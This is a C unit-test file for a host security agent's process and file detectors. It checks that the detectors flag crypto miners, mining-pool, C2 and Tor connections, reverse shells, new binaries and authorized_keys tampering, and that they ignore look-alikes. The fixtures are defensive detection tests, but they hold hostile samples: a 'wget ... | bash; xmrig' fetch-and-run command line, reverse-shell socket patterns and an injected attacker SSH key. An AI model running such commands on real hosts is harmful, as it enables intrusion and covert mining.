/* test_hostdet.c - the host agent's detectors (detect/hostproc.c,
 * detect/hostfile.c) on host events written as the agent writes them:
 * every type with a positive case and its look-alikes, the order-free
 * merge, the stored state's round trip, and the rendered runtimeDetails. */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>

#include "core/buf.h"
#include "core/mem.h"
#include "detect/detect.h"
#include "finding/output.h"
#include "mmtest.h"
#include "parse/hostjson.h"

struct fixture {
	struct mm_intel *in;
	struct mm_agg *agg;
	struct mm_detect_ctx d;
	double pp[MM_PARAMS_MAX], pf[MM_PARAMS_MAX];
	void *st;
	char mem[1 << 16];
	struct mm_arena scratch;
	uint64_t line;
	char *lines[64];
	int nlines;
};

static void setup(struct fixture *fx)
{
	struct mm_err e;
	const char *mining = "198.51.100.50:3333\n198.51.100.60\n", *c2 = "203.0.113.9\n",
		   *tor = "192.0.2.77\n", *trusted = "198.51.100.60\n";
	memset(fx, 0, sizeof(*fx));
	CHECK_EQ_INT(mm_intel_new(&fx->in), 0);
	CHECK_EQ_INT(mm_intel_load_mem(fx->in, MM_CAT_MINING, "mining.txt", mining, strlen(mining), NULL, &e), 0);
	CHECK_EQ_INT(mm_intel_load_mem(fx->in, MM_CAT_C2, "c2.txt", c2, strlen(c2), NULL, &e), 0);
	CHECK_EQ_INT(mm_intel_load_mem(fx->in, MM_CAT_TOR, "tor.txt", tor, strlen(tor), NULL, &e), 0);
	(void)trusted;
	CHECK_EQ_INT(mm_intel_build(fx->in, &e), 0);
	CHECK_EQ_INT(mm_agg_new(&fx->agg, 1000), 0);
	fx->d.intel = fx->in;
	fx->d.agg = fx->agg;
	mm_detector_defaults(&mm_det_hostproc, fx->pp);
	mm_arena_init(&fx->scratch, fx->mem, sizeof(fx->mem));
	fx->st = mm_det_hostproc.state_new();
	CHECK(fx->st != NULL);
}

static void teardown(struct fixture *fx)
{
	int i;
	mm_det_hostproc.state_free(fx->st);
	mm_agg_free(fx->agg);
	mm_intel_free(fx->in);
	for (i = 0; i < fx->nlines; i++)
		mm_free(fx->lines[i]);
}

/* One event line ("what", minutes after 20:00, then members as JSON text)
 * through both detectors into state st. */
static void ev_into(struct fixture *fx, void *st, const char *what, int min, const char *fmt, ...)
{
	char body[2048], *line;
	struct mm_event ev;
	struct mm_err e;
	va_list ap;
	int n;
	va_start(ap, fmt);
	vsnprintf(body, sizeof(body), fmt, ap);
	va_end(ap);
	line = mm_malloc(4096);
	n = snprintf(line, 4096,
		     "{\"mamori_host_event\":1,\"time\":\"2026-12-05T%02d:%02d:00.000Z\",\"what\":\"%s\","
		     "\"host\":\"web-1\",\"instance_id\":\"i-0abc\"%s%s}",
		     20 + min / 60, min % 60, what, body[0] ? "," : "", body);
	if (fx->nlines < 64)
		fx->lines[fx->nlines++] = line; /* events borrow the line until the test ends */
	mm_arena_reset(&fx->scratch);
	CHECK_EQ_INT(mm_hostjson_parse(line, (size_t)n, &fx->scratch, &ev, &e), 0);
	ev.loc.file = "t.hostevents.jsonl";
	ev.loc.line = ++fx->line;
	fx->d.params = fx->pp;
	mm_det_hostproc.on_event(st, &fx->d, &ev);
	mm_detector_defaults(&mm_det_hostfile, fx->pf);
	fx->d.params = fx->pf;
	mm_det_hostfile.on_event(NULL, &fx->d, &ev);
	fx->d.params = fx->pp;
}
#define EV(fx, what, min, ...) ev_into(fx, (fx)->st, what, min, __VA_ARGS__)

static void finish(struct fixture *fx)
{
	fx->d.params = fx->pp;
	mm_det_hostproc.finish(fx->st, &fx->d);
}

static size_t count_type(struct fixture *fx, const char *t)
{
	size_t i, n = 0;
	for (i = 0; i < mm_agg_count(fx->agg); i++)
		if (strcmp(mm_agg_at(fx->agg, i)->type, t) == 0)
			n++;
	return n;
}

static struct mm_finding *find_type(struct fixture *fx, const char *t)
{
	size_t i;
	for (i = 0; i < mm_agg_count(fx->agg); i++)
		if (strcmp(mm_agg_at(fx->agg, i)->type, t) == 0)
			return mm_agg_at(fx->agg, i);
	return NULL;
}

#define MINER "Impact:Runtime/CryptoMinerExecuted"
#define BTC "CryptoCurrency:Runtime/BitcoinTool.B"
#define NEWBIN "Execution:Runtime/NewBinaryExecuted"
#define REVSH "Execution:Runtime/ReverseShell"

MM_TEST(miner_by_name_and_command_line_vs_lookalikes)
{
	struct fixture fx;
	struct mm_finding *f;
	setup(&fx);
	/* look-alikes: an editor on xmrig docs, a program named xmrig-docs */
	EV(&fx, "proc", 0, "\"pid\":10,\"name\":\"vim\",\"exe\":\"/usr/bin/vim\",\"command\":\"vim xmrig/README.md\"");
	EV(&fx, "proc", 0, "\"pid\":11,\"name\":\"xmrig-docs\",\"exe\":\"/home/d/xmrig-docs\",\"command\":\"xmrig-docs serve\"");
	EV(&fx, "proc", 0, "\"pid\":12,\"name\":\"stratum\",\"exe\":\"/opt/s/stratum\",\"command\":\"stratum --help\"");
	CHECK_EQ_INT((int)count_type(&fx, MINER), 0);
	EV(&fx, "proc", 1, "\"pid\":20,\"name\":\"XMRig\",\"exe\":\"/opt/x/XMRig\",\"user\":\"git\"");
	CHECK_EQ_INT((int)count_type(&fx, MINER), 1);
	EV(&fx, "proc", 1, "\"pid\":21,\"name\":\"sysupd\",\"exe\":\"/usr/local/bin/sysupd\",\"command\":\"sysupd -o stratum+tcp://p.example:3333\"");
	CHECK_EQ_INT((int)count_type(&fx, MINER), 2);
	f = find_type(&fx, MINER);
	CHECK(f && f->res_type == MM_RES_RUNTIME && strcmp(f->instance_id, "i-0abc") == 0);
	CHECK(f && f->proc.pid == 20 && strcmp(f->proc.user, "git") == 0);
	teardown(&fx);
}

MM_TEST(pool_connection_only_on_listed_address_and_port)
{
	struct fixture fx;
	struct mm_finding *f;
	setup(&fx);
	EV(&fx, "sock", 0, "\"pid\":30,\"name\":\"node\",\"exe\":\"/opt/n\",\"remote\":\"198.51.100.99\",\"rport\":3333,\"lport\":40000,\"proto\":6,\"state\":\"ESTABLISHED\"");
	EV(&fx, "sock", 0, "\"pid\":31,\"name\":\"curl\",\"exe\":\"/usr/bin/curl\",\"remote\":\"198.51.100.50\",\"rport\":443,\"lport\":40001,\"proto\":6,\"state\":\"ESTABLISHED\"");
	EV(&fx, "sock", 0, "\"pid\":32,\"name\":\"k\",\"exe\":\"/opt/k\",\"remote\":\"198.51.100.50\",\"rport\":3333,\"lport\":40002,\"proto\":6,\"state\":\"LISTEN\"");
	CHECK_EQ_INT((int)count_type(&fx, BTC), 0);
	EV(&fx, "sock", 1, "\"pid\":33,\"name\":\"k\",\"exe\":\"/opt/k\",\"remote\":\"198.51.100.50\",\"rport\":3333,\"lport\":40003,\"proto\":6,\"state\":\"ESTABLISHED\"");
	CHECK_EQ_INT((int)count_type(&fx, BTC), 1);
	f = find_type(&fx, BTC);
	CHECK(f && f->has_remote_ip && f->remote_port == 3333 && f->proc.pid == 33);
	CHECK(f && strcmp(f->threat_name, "mining") == 0 && strcmp(f->indicator, "198.51.100.50:3333") == 0);
	teardown(&fx);
}

MM_TEST(c2_and_tor_outbound_only)
{
	struct fixture fx;
	setup(&fx);
	/* inbound: the listed address connects to sshd / to the web server */
	EV(&fx, "sock", 0, "\"pid\":1,\"name\":\"sshd\",\"exe\":\"/usr/sbin/sshd\",\"remote\":\"203.0.113.9\",\"rport\":50123,\"lport\":22,\"proto\":6,\"state\":\"ESTABLISHED\"");
	EV(&fx, "sock", 0, "\"pid\":2,\"name\":\"nginx\",\"exe\":\"/usr/sbin/nginx\",\"remote\":\"192.0.2.77\",\"rport\":50123,\"lport\":443,\"proto\":6,\"state\":\"ESTABLISHED\"");
	CHECK_EQ_INT((int)mm_agg_count(fx.agg), 0);
	EV(&fx, "sock", 1, "\"pid\":3,\"name\":\"curl\",\"exe\":\"/usr/bin/curl\",\"remote\":\"203.0.113.9\",\"rport\":443,\"lport\":50000,\"proto\":6,\"state\":\"ESTABLISHED\"");
	EV(&fx, "sock", 1, "\"pid\":4,\"name\":\"t\",\"exe\":\"/opt/t\",\"remote\":\"192.0.2.77\",\"rport\":9001,\"lport\":50001,\"proto\":6,\"state\":\"ESTABLISHED\"");
	CHECK_EQ_INT((int)count_type(&fx, "Backdoor:Runtime/C&CActivity.B"), 1);
	CHECK_EQ_INT((int)count_type(&fx, "UnauthorizedAccess:Runtime/TorClient"), 1);
	teardown(&fx);
}

MM_TEST(reverse_shell_socket_on_stdio_vs_lookalikes)
{
	struct fixture fx;
	struct mm_finding *f;
	setup(&fx);
	/* a shell with a pipe: no socket event at all */
	EV(&fx, "proc", 0, "\"pid\":40,\"name\":\"bash\",\"exe\":\"/usr/bin/bash\",\"command\":\"bash -c 'curl x | tee y'\"");
	/* the socket on fd 3 (a script's /dev/tcp health check) */
	EV(&fx, "sock", 0, "\"pid\":41,\"name\":\"bash\",\"exe\":\"/usr/bin/bash\",\"remote\":\"203.0.113.51\",\"rport\":80,\"lport\":51001,\"proto\":6,\"state\":\"ESTABLISHED\",\"path\":\"fd:3\"");
	/* python with a socket and no fd list; loopback; listening */
	EV(&fx, "sock", 0, "\"pid\":42,\"name\":\"python3\",\"exe\":\"/usr/bin/python3\",\"remote\":\"203.0.113.52\",\"rport\":443,\"lport\":51002,\"proto\":6,\"state\":\"ESTABLISHED\"");
	EV(&fx, "sock", 0, "\"pid\":43,\"name\":\"sh\",\"exe\":\"/bin/sh\",\"remote\":\"127.0.0.1\",\"rport\":4444,\"lport\":51003,\"proto\":6,\"state\":\"ESTABLISHED\",\"path\":\"fd:0,1\"");
	EV(&fx, "sock", 0, "\"pid\":44,\"name\":\"zsh\",\"exe\":\"/bin/zsh\",\"local\":\"0.0.0.0\",\"lport\":4444,\"proto\":6,\"state\":\"LISTEN\"");
	CHECK_EQ_INT((int)count_type(&fx, REVSH), 0);
	EV(&fx, "sock", 1, "\"pid\":45,\"name\":\"bash\",\"exe\":\"/usr/bin/bash\",\"remote\":\"203.0.113.50\",\"rport\":4444,\"lport\":51000,\"proto\":6,\"state\":\"ESTABLISHED\",\"path\":\"fd:0,1,2\"");
	CHECK_EQ_INT((int)count_type(&fx, REVSH), 1);
	f = find_type(&fx, REVSH);
	CHECK(f && f->proc.pid == 45 && f->remote_port == 4444);
	EV(&fx, "sock", 2, "\"pid\":46,\"name\":\"python3\",\"exe\":\"/usr/bin/python3\",\"remote\":\"203.0.113.53\",\"rport\":443,\"lport\":51004,\"proto\":6,\"state\":\"ESTABLISHED\",\"path\":\"fd:0,1,2\"");
	CHECK_EQ_INT((int)count_type(&fx, REVSH), 2);
	/* loopback counts when asked */
	fx.pp[3] = 1;
	EV(&fx, "sock", 3, "\"pid\":43,\"name\":\"sh\",\"exe\":\"/bin/sh\",\"remote\":\"127.0.0.1\",\"rport\":4444,\"lport\":51003,\"proto\":6,\"state\":\"ESTABLISHED\",\"path\":\"fd:0,1\"");
	CHECK_EQ_INT((int)count_type(&fx, REVSH), 3);
	teardown(&fx);
}

static void tmp_miner(struct fixture *fx, void *st, int min)
{
	ev_into(fx, st, "proc", min, "\"pid\":50,\"start\":\"2026-12-05T21:00:00.000Z\",\"name\":\"kthreaddw\",\"exe\":\"/tmp/.gitlab/kthreaddw\",\"cpu_permille\":800,\"sha256\":\"%064d\"", 7);
}

MM_TEST(sustained_cpu_from_tmp_or_pool_pid)
{
	struct fixture fx;
	setup(&fx);
	/* CPU-heavy in /home (a build): never; 2 samples from /tmp: not yet */
	EV(&fx, "proc", 0, "\"pid\":60,\"name\":\"cc1\",\"exe\":\"/home/d/gcc/cc1\",\"cpu_permille\":990");
	EV(&fx, "proc", 1, "\"pid\":60,\"name\":\"cc1\",\"exe\":\"/home/d/gcc/cc1\",\"cpu_permille\":990");
	EV(&fx, "proc", 2, "\"pid\":60,\"name\":\"cc1\",\"exe\":\"/home/d/gcc/cc1\",\"cpu_permille\":990");
	tmp_miner(&fx, fx.st, 61);
	tmp_miner(&fx, fx.st, 62);
	EV(&fx, "proc", 62, "\"pid\":50,\"start\":\"2026-12-05T21:00:00.000Z\",\"name\":\"kthreaddw\",\"exe\":\"/tmp/.gitlab/kthreaddw\",\"cpu_permille\":100");
	finish(&fx);
	CHECK_EQ_INT((int)count_type(&fx, MINER), 0);
	tmp_miner(&fx, fx.st, 63);
	finish(&fx);
	CHECK_EQ_INT((int)count_type(&fx, MINER), 1);
	/* reported once: more samples do not add a second finding */
	tmp_miner(&fx, fx.st, 64);
	finish(&fx);
	CHECK_EQ_INT((int)count_type(&fx, MINER), 1);
	/* a system binary that holds a pool connection and burns CPU */
	EV(&fx, "sock", 65, "\"pid\":70,\"name\":\"python3\",\"exe\":\"/usr/bin/python3\",\"remote\":\"198.51.100.50\",\"rport\":3333,\"lport\":40010,\"proto\":6,\"state\":\"ESTABLISHED\"");
	EV(&fx, "proc", 65, "\"pid\":70,\"start\":\"2026-12-05T21:04:00.000Z\",\"name\":\"python3\",\"exe\":\"/usr/bin/python3\",\"cpu_permille\":900");
	EV(&fx, "proc", 66, "\"pid\":70,\"start\":\"2026-12-05T21:04:00.000Z\",\"name\":\"python3\",\"exe\":\"/usr/bin/python3\",\"cpu_permille\":900");
	EV(&fx, "proc", 67, "\"pid\":70,\"start\":\"2026-12-05T21:04:00.000Z\",\"name\":\"python3\",\"exe\":\"/usr/bin/python3\",\"cpu_permille\":900");
	finish(&fx);
	CHECK_EQ_INT((int)count_type(&fx, MINER), 2);
	CHECK_EQ_INT((int)count_type(&fx, BTC), 1);
	/* the python process is a system binary: no NewBinaryExecuted for it */
	teardown(&fx);
}

MM_TEST(new_binary_after_baseline_vs_package_update)
{
	struct fixture fx;
	struct mm_finding *f;
	setup(&fx);
	EV(&fx, "proc", 0, "\"pid\":80,\"name\":\"server\",\"exe\":\"/opt/app/server\",\"sha256\":\"%064d\"", 1);
	EV(&fx, "proc", 0, "\"pid\":81,\"name\":\"python3\",\"exe\":\"/usr/bin/python3\",\"sha256\":\"%064d\"", 2);
	/* during the baseline: a new binary is the host's own */
	EV(&fx, "proc", 30, "\"pid\":82,\"name\":\"tool\",\"exe\":\"/opt/tool\"");
	finish(&fx);
	CHECK_EQ_INT((int)count_type(&fx, NEWBIN), 0);
	/* after it: a package update under /usr, the same server again */
	EV(&fx, "proc", 90, "\"pid\":83,\"name\":\"python3\",\"exe\":\"/usr/bin/python3\",\"sha256\":\"%064d\"", 3);
	EV(&fx, "proc", 90, "\"pid\":84,\"name\":\"server\",\"exe\":\"/opt/app/server\",\"sha256\":\"%064d\"", 1);
	EV(&fx, "proc", 90, "\"pid\":82,\"name\":\"tool\",\"exe\":\"/opt/tool\"");
	finish(&fx);
	CHECK_EQ_INT((int)count_type(&fx, NEWBIN), 0);
	/* the server's hash changed: new */
	EV(&fx, "proc", 91, "\"pid\":85,\"name\":\"server\",\"exe\":\"/opt/app/server\",\"sha256\":\"%064d\"", 4);
	finish(&fx);
	CHECK_EQ_INT((int)count_type(&fx, NEWBIN), 1);
	/* a path never seen */
	EV(&fx, "proc", 92, "\"pid\":86,\"name\":\"dropper\",\"exe\":\"/var/www/.x/dropper\"");
	finish(&fx);
	CHECK_EQ_INT((int)count_type(&fx, NEWBIN), 2);
	f = find_type(&fx, NEWBIN);
	CHECK(f && f->res_type == MM_RES_RUNTIME);
	teardown(&fx);
}

MM_TEST(new_binary_from_file_change_before_start)
{
	struct fixture fx;
	setup(&fx);
	/* written at 20:05, started at 20:06: new even inside the baseline */
	EV(&fx, "file", 5, "\"path\":\"/opt/app/worker\",\"change\":\"created\"");
	EV(&fx, "proc", 7, "\"pid\":90,\"start\":\"2026-12-05T20:06:00.000Z\",\"name\":\"worker\",\"exe\":\"/opt/app/worker\"");
	/* started before its file changed: an old process */
	EV(&fx, "file", 8, "\"path\":\"/opt/app/other\",\"change\":\"modified\"");
	EV(&fx, "proc", 9, "\"pid\":91,\"start\":\"2026-12-05T20:01:00.000Z\",\"name\":\"other\",\"exe\":\"/opt/app/other\"");
	/* a package update under /usr/bin, then the binary runs */
	EV(&fx, "file", 10, "\"path\":\"/usr/bin/ls\",\"change\":\"modified\"");
	EV(&fx, "proc", 11, "\"pid\":92,\"start\":\"2026-12-05T20:11:00.000Z\",\"name\":\"ls\",\"exe\":\"/usr/bin/ls\"");
	finish(&fx);
	CHECK_EQ_INT((int)count_type(&fx, NEWBIN), 1);
	teardown(&fx);
}

/* The stream below, cut at k and fed to two states in either order,
 * merges to the same findings as one pass. */
static void story(struct fixture *fx, void **st, int k)
{
	int i;
	for (i = 0; i < 8; i++) {
		void *s = st[i < k ? 0 : 1];
		switch (i) {
		case 0: ev_into(fx, s, "proc", 0, "\"pid\":1,\"name\":\"a\",\"exe\":\"/opt/a\""); break;
		case 1: ev_into(fx, s, "proc", 70, "\"pid\":2,\"name\":\"b\",\"exe\":\"/opt/b\""); break;
		case 2: tmp_miner(fx, s, 71); break;
		case 3: tmp_miner(fx, s, 72); break;
		case 4: tmp_miner(fx, s, 73); break;
		case 5: ev_into(fx, s, "proc", 74, "\"pid\":3,\"name\":\"a\",\"exe\":\"/opt/a\""); break;
		case 6: ev_into(fx, s, "file", 75, "\"path\":\"/opt/c\",\"change\":\"created\""); break;
		case 7: ev_into(fx, s, "proc", 76, "\"pid\":4,\"start\":\"2026-12-05T21:16:00.000Z\",\"name\":\"c\",\"exe\":\"/opt/c\""); break;
		}
	}
}

MM_TEST(merge_is_order_free)
{
	int k, order;
	for (k = 0; k <= 8; k++)
		for (order = 0; order < 2; order++) {
			struct fixture fx;
			void *w[2];
			setup(&fx);
			w[0] = mm_det_hostproc.state_new();
			w[1] = mm_det_hostproc.state_new();
			story(&fx, w, k);
			CHECK_EQ_INT(mm_det_hostproc.merge(fx.st, w[order]), 0);
			CHECK_EQ_INT(mm_det_hostproc.merge(fx.st, w[1 - order]), 0);
			mm_det_hostproc.state_free(w[0]);
			mm_det_hostproc.state_free(w[1]);
			finish(&fx);
			/* b (new after the baseline), kthreaddw (new), c (file) */
			CHECK_EQ_INT((int)count_type(&fx, NEWBIN), 3);
			CHECK_EQ_INT((int)count_type(&fx, MINER), 1);
			teardown(&fx);
		}
}

struct rows {
	struct mm_buf b;
	int n;
	char ent[8][80];
	size_t at[8], len[8];
};

static int put(void *pctx, const char *entity, const void *blob, size_t n)
{
	struct rows *r = pctx;
	if (r->n >= 8)
		return MM_ETOOBIG;
	snprintf(r->ent[r->n], sizeof(r->ent[0]), "%s", entity);
	r->at[r->n] = r->b.len;
	r->len[r->n] = n;
	r->n++;
	return mm_buf_add(&r->b, blob, n);
}

MM_TEST(state_round_trip_keeps_reported_and_baseline)
{
	struct fixture fx;
	struct rows a, b;
	void *st2;
	int i;
	setup(&fx);
	EV(&fx, "proc", 0, "\"pid\":1,\"name\":\"a\",\"exe\":\"/opt/a\",\"lineage\":\"1:systemd:/sbin/init\"");
	tmp_miner(&fx, fx.st, 61);
	tmp_miner(&fx, fx.st, 62);
	tmp_miner(&fx, fx.st, 63);
	finish(&fx);
	CHECK_EQ_INT((int)count_type(&fx, MINER), 1);
	memset(&a, 0, sizeof(a));
	memset(&b, 0, sizeof(b));
	mm_buf_init(&a.b, 1u << 20);
	mm_buf_init(&b.b, 1u << 20);
	CHECK_EQ_INT(mm_det_hostproc.save(fx.st, put, &a), 0);
	CHECK_EQ_INT(a.n, 1);
	CHECK_EQ_STR(a.ent[0], "i-0abc");
	st2 = mm_det_hostproc.state_new();
	for (i = 0; i < a.n; i++)
		CHECK_EQ_INT(mm_det_hostproc.load(st2, a.ent[i], 1, a.b.p + a.at[i], a.len[i]), 0);
	CHECK_EQ_INT(mm_det_hostproc.save(st2, put, &b), 0);
	CHECK(a.b.len == b.b.len && memcmp(a.b.p, b.b.p, a.b.len) == 0);
	/* bad rows are refused whole */
	CHECK_EQ_INT(mm_det_hostproc.load(st2, "x", 1, a.b.p, a.len[0] - 1), MM_EFORMAT);
	CHECK_EQ_INT(mm_det_hostproc.load(st2, "x", 2, a.b.p, a.len[0]), MM_EFORMAT);
	/* loaded: the baseline holds (a again is not new), the miner stays reported */
	mm_det_hostproc.state_free(fx.st);
	fx.st = st2;
	mm_agg_free(fx.agg);
	CHECK_EQ_INT(mm_agg_new(&fx.agg, 1000), 0);
	fx.d.agg = fx.agg;
	EV(&fx, "proc", 100, "\"pid\":5,\"name\":\"a\",\"exe\":\"/opt/a\"");
	tmp_miner(&fx, fx.st, 64);
	finish(&fx);
	CHECK_EQ_INT((int)mm_agg_count(fx.agg), 0);
	mm_buf_free(&a.b);
	mm_buf_free(&b.b);
	teardown(&fx);
}

MM_TEST(authorized_keys_and_watched_files)
{
	struct fixture fx;
	struct mm_finding *f;
	size_t i;
	int hi = 0, med = 0, lo = 0;
	setup(&fx);
	EV(&fx, "file", 0, "\"path\":\"/home/git/.ssh/authorized_keys\",\"change\":\"modified\",\"diff\":\"@@ -1 +1,2 @@\\n ssh-rsa AAAA old@x\\n+ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICGb+cTTuu0UMD4Zqh3+K1lXOX45RbosFjbTeZMBdJhW evil@203.0.113.50\\n\"");
	f = find_type(&fx, "Persistence:Runtime/AuthorizedKeysModified");
	CHECK(f != NULL);
	/* the fingerprint ssh-keygen -l prints for that key */
	CHECK(f && strstr(f->info, "SHA256:lMww+xnRKwoT84Q/X5ro+Sj0MIt6hX8ATxN0/nNHAEw") != NULL);
	CHECK(f && strstr(f->info, "evil@203.0.113.50") != NULL);
	CHECK(f && f->severity == 5.0);
	/* look-alike: a backup copy is a watched file, not the keys */
	EV(&fx, "file", 1, "\"path\":\"/home/git/.ssh/authorized_keys.bak\",\"change\":\"created\"");
	EV(&fx, "file", 1, "\"path\":\"/etc/sudoers.d/90-x\",\"change\":\"created\"");
	EV(&fx, "file", 1, "\"path\":\"/etc/ld.so.preload\",\"change\":\"created\"");
	EV(&fx, "file", 1, "\"path\":\"/usr/sbin/sshd\",\"change\":\"modified\"");
	EV(&fx, "file", 1, "\"path\":\"/root/.bashrc\",\"change\":\"modified\"");
	CHECK_EQ_INT((int)count_type(&fx, "Persistence:Runtime/AuthorizedKeysModified"), 1);
	for (i = 0; i < mm_agg_count(fx.agg); i++) {
		f = mm_agg_at(fx.agg, i);
		if (strcmp(f->type, "Persistence:Runtime/WatchedFileModified"))
			continue;
		hi += f->severity == 8.0;
		med += f->severity == 5.0;
		lo += f->severity == 2.0;
	}
	CHECK_EQ_INT(hi, 2);
	CHECK_EQ_INT(med, 1);
	CHECK_EQ_INT(lo, 2);
	teardown(&fx);
}

MM_TEST(runtime_details_render)
{
	struct fixture fx;
	struct mm_finding *f;
	struct mm_buf out;
	setup(&fx);
	EV(&fx, "sock", 0, "\"pid\":33,\"ppid\":1,\"user\":\"git\",\"name\":\"k\",\"exe\":\"/tmp/k\",\"sha256\":\"%064d\",\"lineage\":\"1:systemd:/usr/lib/systemd/systemd;7:k\\\\\\\"x:/x\",\"remote\":\"198.51.100.50\",\"rport\":3333,\"lport\":40003,\"proto\":6,\"state\":\"ESTABLISHED\"", 5);
	f = find_type(&fx, BTC);
	CHECK(f != NULL);
	if (f) {
		mm_finding_make_id(f);
		mm_buf_init(&out, 1u << 20);
		CHECK_EQ_INT(mm_finding_to_json(f, NULL, &out), 0);
		CHECK(strstr(out.p, "\"executableSha256\":\"0000000000000000000000000000000000000000000000000000000000000005\"") != NULL);
		/* the name holds a backslash and a quote: escaped both */
		CHECK(strstr(out.p, "\"lineage\":[{\"pid\":1,\"name\":\"systemd\"},{\"pid\":7,\"name\":\"k\\\\\\\"x\"}]") != NULL);
		CHECK(strstr(out.p, "\"featureName\":\"RuntimeMonitoring\"") != NULL);
		CHECK(strstr(out.p, "\"instanceId\":\"i-0abc\"") != NULL);
		mm_buf_free(&out);
	}
	teardown(&fx);
}

/* Every registered host detector (hostauth, hostcmd, hostfile, hostproc,
 * sigma without rules) ignores the generic log line (MM_HOST_LINE), even
 * with every member set to what would make another kind fire; the same
 * members as a PROC / SOCK / login event do fire (so the test can fail). */
static size_t all_host_detectors(struct fixture *fx, const char *what, int count)
{
	const struct mm_detector_def *const *dp;
	size_t before = mm_agg_count(fx->agg);
	for (dp = mm_detectors; *dp; dp++) {
		const struct mm_detector_def *d = *dp;
		double p[MM_PARAMS_MAX];
		void *st;
		int i;
		if (!(d->kinds & MM_KIND_BIT(MM_EV_HOST)) || !d->on_event)
			continue;
		mm_detector_defaults(d, p);
		st = d->state_new ? d->state_new() : NULL;
		for (i = 0; i < count; i++) {
			char line[2048];
			struct mm_event ev;
			struct mm_err e;
			int n = snprintf(line, sizeof(line),
					 "{\"mamori_host_event\":1,\"time\":\"2026-12-05T20:%02d:00Z\",\"what\":\"%s\","
					 "\"host\":\"web-1\",\"program\":\"sshd\",\"pid\":%d,\"user\":\"root\","
					 "\"method\":\"password\",\"remote\":\"198.51.100.50\",\"rport\":3333,"
					 "\"local\":\"10.0.0.5\",\"lport\":40000,\"proto\":6,\"state\":\"ESTABLISHED\","
					 "\"command\":\"wget -q -O - http://x/gi.sh | bash; xmrig -o pool:3333\","
					 "\"exe\":\"/tmp/.gitlab/xmrig\",\"name\":\"xmrig\",\"cpu_permille\":1000,"
					 "\"path\":\"/home/git/.ssh/authorized_keys\",\"change\":\"modified\","
					 "\"message\":\"Failed password for root from 198.51.100.50 port 1 ssh2\"}",
					 i % 60, what, 100 + i);
			mm_arena_reset(&fx->scratch);
			CHECK_EQ_INT(mm_hostjson_parse(line, (size_t)n, &fx->scratch, &ev, &e), 0);
			ev.loc.file = "t.hostevents.jsonl";
			ev.loc.line = (uint64_t)i + 1;
			fx->d.params = p;
			d->on_event(st, &fx->d, &ev);
		}
		fx->d.params = p;
		if (d->finish)
			d->finish(st, &fx->d);
		if (d->state_free)
			d->state_free(st);
	}
	return mm_agg_count(fx->agg) - before;
}

MM_TEST(generic_log_line_ignored_by_every_host_detector)
{
	struct fixture fx;
	setup(&fx);
	CHECK_EQ_INT((int)all_host_detectors(&fx, "line", 40), 0);
	CHECK((int)all_host_detectors(&fx, "proc", 40) > 0);
	CHECK((int)all_host_detectors(&fx, "login_fail", 40) > 0);
	teardown(&fx);
}
